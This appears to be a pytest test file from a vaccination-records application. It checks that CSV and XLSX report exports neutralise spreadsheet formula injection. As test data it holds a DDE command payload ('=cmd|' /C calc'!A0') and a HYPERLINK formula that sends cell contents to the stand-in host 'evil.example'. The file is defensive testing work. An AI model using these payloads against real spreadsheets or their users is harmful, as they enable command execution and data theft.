"""Formula injection (CWE-1236): names typed by people reach every CSV and XLSX export as text.

A facility called ``=cmd|' /C calc'!A0``, an area called `` +SUM(1)`` and a person called
``@HYPERLINK(...)`` go through every report (staff downloads and the CLI, CSV and XLSX); no
cell of any export may start like a formula, and no XLSX cell may be a formula.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest

from cowin_kit.core.spreadsheet import cell_text, looks_like_formula
from cowin_kit.reporting.catalog import all_reports
from tests.reporting.conftest import TODAY, make_staff, sign_in

FACILITY = "=cmd|' /C calc'!A0"
AREA = "  +SUM(1+1)*cmd|' /C calc'!A0"  # leading blanks: spreadsheets skip them
PERSON = "@HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
PAYLOADS = (FACILITY, AREA, PERSON)


@pytest.mark.parametrize("text", [
    "=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\0=1", " =1+1", "\u00a0=1",
    "   -cmd", "\t", FACILITY, AREA, PERSON])
def test_formula_starts_get_an_apostrophe(text):
    assert looks_like_formula(text)
    assert cell_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Centre 1", "Asha Devi", "a=b", "1-2", "O'Brien", "", "उत्तर",
                                  "ab@example.org"])
def test_plain_text_is_left_alone(text):
    assert not looks_like_formula(text)
    assert cell_text(text) == text


def _named(person):
    person.name = PERSON
    return person


def _malicious_world(db, world):
    """Every kind of report has rows that carry a malicious name."""
    from cowin_kit.core.db import utcnow
    from cowin_kit.vaccination.models import AefiReport

    north = world.areas["S1"]
    north.name, north.names = AREA, {"en": AREA, "es": AREA, "hi": AREA}
    facility = world.facilities["S1-D1"]
    facility.name = FACILITY
    day = TODAY - dt.timedelta(days=1)
    first = _named(world.person())
    second = _named(world.person())
    session = world.session(facility, day, ((first, "completed"), (second, "no_show")),
                            doses_opened=10, capacity=10)
    # First dose long ago: dose 2 is due (a row in the dose-2 list, named PERSON).
    world.dose(first, vaccine="comirnaty", day=TODAY - dt.timedelta(days=60))
    dose = world.dose(second, vaccine="comirnaty", day=day, session=session)
    db.session.add(AefiReport(dose_record_id=dose.id, severity="mild", outcome="recovered",
                              onset_at=utcnow().replace(year=TODAY.year, month=TODAY.month,
                                                        day=TODAY.day)))
    # A complete series long ago: a booster is due (the booster list, named PERSON).
    boosted = _named(world.person())
    world.dose(boosted, vaccine="comirnaty", day=dt.date(2021, 1, 4))
    world.dose(boosted, vaccine="comirnaty", number=2, day=dt.date(2021, 2, 1))
    # A routine dose due (the routine due list, named PERSON).
    from cowin_kit.registration.models import RoutineDue

    child = _named(world.person(next_routine_due=TODAY - dt.timedelta(days=3)))
    db.session.flush()
    db.session.add(RoutineDue(beneficiary_id=child.id, programme="uip_children", antigen="bcg",
                              dose_number=1, dose_name="BCG", due_on=TODAY - dt.timedelta(days=3),
                              overdue_on=TODAY + dt.timedelta(days=25)))
    db.session.commit()


def _assert_csv_safe(text: str, expect: set[str]) -> None:
    cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
    assert cells, "the export is empty"
    formulas = [c for c in cells if looks_like_formula(c)]
    assert formulas == []
    for payload in expect:
        assert "'" + payload in cells  # the reader still sees the name, as text


def _assert_xlsx_safe(data: bytes, expect: set[str]) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells, "the export is empty"
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert [t for t in texts if looks_like_formula(t)] == []
    for payload in expect:
        assert "'" + payload in texts


#: Which malicious names each report shows (area names, facility names or person names).
SHOWS = {"coverage": {AREA}, "aefi": {AREA}, "noshow": {FACILITY}, "wastage": {FACILITY},
         "dose2_due": {PERSON}, "booster_due": {PERSON}, "equity": {AREA},
         "routine_due": {PERSON}}
#: Reports the reporting tests' profile (Peru) defines nothing for: run on India's.
INDIA_SHOWS = {"fic": {AREA}, "dropout": {AREA}}


def _assert_download_safe(response, fmt: str, expect: set[str]) -> None:
    assert response.status_code == 200
    if fmt == "csv":
        _assert_csv_safe(response.get_data(as_text=True), expect)
    else:
        _assert_xlsx_safe(response.data, expect)


def test_every_report_is_covered():
    assert set(SHOWS) | set(INDIA_SHOWS) == set(all_reports())


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", sorted(INDIA_SHOWS))
def test_routine_report_downloads_never_hold_formulas(india, db, world, kind, fmt):
    from cowin_kit.registration.models import RoutineDose

    _malicious_world(db, world)
    child = _named(world.person(birth_year=2020, birth_date=dt.date(2020, 2, 1)))
    db.session.flush()
    db.session.add(RoutineDose(beneficiary_id=child.id, product="penta",
                               given_on=dt.date(2020, 3, 20)))
    db.session.commit()
    client = india.test_client()
    sign_in(client, make_staff(db, "national_admin"))
    _assert_download_safe(client.get(f"/staff/reports/{kind}.{fmt}?cohort=2020"), fmt,
                          INDIA_SHOWS[kind])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", sorted(SHOWS))
def test_staff_downloads_never_hold_formulas(client, db, world, kind, fmt):
    _malicious_world(db, world)
    sign_in(client, make_staff(db, "national_admin"))
    response = client.get(f"/staff/reports/{kind}.{fmt}?from=2021-01-01&to={TODAY.isoformat()}")
    _assert_download_safe(response, fmt, SHOWS[kind])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_cli_export_never_holds_formulas(app, db, world, runner, cli_env, tmp_path, fmt):
    from cowin_kit.cli import cli

    _malicious_world(db, world)
    out = tmp_path / f"wastage.{fmt}"
    result = runner.invoke(cli, ["reports", "export", "wastage", "--format", fmt, "--from",
                                 "2021-01-01", "--to", TODAY.isoformat(), "--output", str(out)],
                           env=cli_env)
    assert result.exit_code == 0, result.output
    if fmt == "csv":
        _assert_csv_safe(out.read_text(encoding="utf-8"), {FACILITY})
    else:
        _assert_xlsx_safe(out.read_bytes(), {FACILITY})
